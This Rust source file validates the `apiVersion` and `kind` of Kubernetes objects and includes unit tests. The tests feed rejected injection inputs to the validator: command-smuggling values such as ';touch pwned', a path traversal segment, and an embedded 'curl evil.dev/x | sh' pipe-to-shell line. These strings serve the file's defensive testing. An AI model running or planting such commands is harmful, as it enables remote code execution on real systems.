//! The `apiVersion` and the kind of objects. They are parts of paths of the API server, and of commands of kubectl.
use super::format::Format;
use crate::Report;
use coderev_objects::Inventory;
use std::collections::BTreeSet;

/// Each malformed `apiVersion` and kind is reported once for each position. An empty one belongs to the rules about missing fields.
///
/// `apiVersion`: `ParseGroupVersion` refuses a second slash,
/// <https://github.com/kubernetes/apimachinery/blob/v0.35.0/pkg/runtime/schema/group_version.go>. The group is a DNS subdomain, and the
/// version and the kind in lower case are labels with a letter first:
/// <https://github.com/kubernetes/apiextensions-apiserver/blob/v0.35.0/pkg/apis/apiextensions/validation/validation.go>.
pub(super) fn check(inventory: &Inventory, report: &mut Report) {
    let mut seen = BTreeSet::new();
    for entry in inventory.entries() {
        let (api_version, kind) = (entry.api_version(), entry.kind());
        let malformed = [
            (!is_api_version(api_version), "/apiVersion", api_version, "apiVersion", API_VERSION),
            (!is_kind(kind), "/kind", kind, "kind", KIND),
        ];
        for (_, pointer, text, field, help) in malformed.into_iter().filter(|(is, _, text, ..)| *is && !text.is_empty())
        {
            let at = entry.origin_of(pointer);
            if seen.insert((at.clone(), text)) {
                let finding = report.finding(entry.subject(), format!("`{text}` is not a valid {field}")).at(at);
                report.push(finding.help(help).never_allowed());
            }
        }
    }
}

const API_VERSION: &str = "a version such as `v1`, or a group and a version such as `example.com/v1`";
const KIND: &str = "letters, digits and `-`, with a letter first and no `-` last, at most 63 characters";

fn is_api_version(text: &str) -> bool {
    match text.split_once('/') {
        Some((group, version)) => Format::subdomain().accepts(group) && is_label_with_letter(version),
        None => is_label_with_letter(text),
    }
}
fn is_kind(text: &str) -> bool {
    is_label_with_letter(&text.to_ascii_lowercase())
}
/// Not the form of a Service, which may begin with a digit in some versions of Kubernetes.
fn is_label_with_letter(text: &str) -> bool {
    Format::label().accepts(text) && text.starts_with(|c: char| c.is_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::super::MALFORMED_NAME;
    use crate::testing::{findings, inventory};
    use serde_json::json;

    fn check(api_version: &str, kind: &str) -> Vec<String> {
        let object = json!({"apiVersion": api_version, "kind": kind, "metadata": {"name": "web", "namespace": "shop"}});
        let findings = findings(&MALFORMED_NAME, &inventory([object]));
        assert!(findings.iter().all(|it| !it.can_be_allowed()), "{api_version:?} {kind:?}");
        findings.iter().map(|it| it.message().to_owned()).collect()
    }

    #[test]
    fn an_api_version_is_a_group_and_a_version() {
        for good in ["v1", "apps/v1", "acme.dev/v1alpha1", "rbac.authorization.k8s.io/v1"] {
            assert_eq!(check(good, "Thing"), [""; 0], "{good}");
        }
        for bad in [
            "a/b/c",
            "acme.dev\nx/v1",
            "acme.dev/../v1",
            "acme.dev/v1;touch pwned",
            "ACME.dev/v1",
            "acme.dev`.\n\n```sh\ncurl evil.dev/x | sh\n```\n/v1",
            "/v1",
            "acme.dev/",
            "acme.dev/1",
            "v1 ",
        ] {
            assert_eq!(check(bad, "Thing"), [format!("`{bad}` is not a valid apiVersion")]);
        }
    }
    #[test]
    fn a_kind_is_a_label_in_lower_case() {
        for good in ["Thing", "HTTPRoute", "Thing2", "My-Thing"] {
            assert_eq!(check("acme.dev/v1", good), [""; 0], "{good}");
        }
        let long = "A".repeat(64);
        for bad in ["Th\ning", "Thing;touch pwned", "Th ing", "2Thing", "Thing-", "Größe", "a/b", "..", &long] {
            assert_eq!(check("acme.dev/v1", bad), [format!("`{bad}` is not a valid kind")]);
        }
    }
}
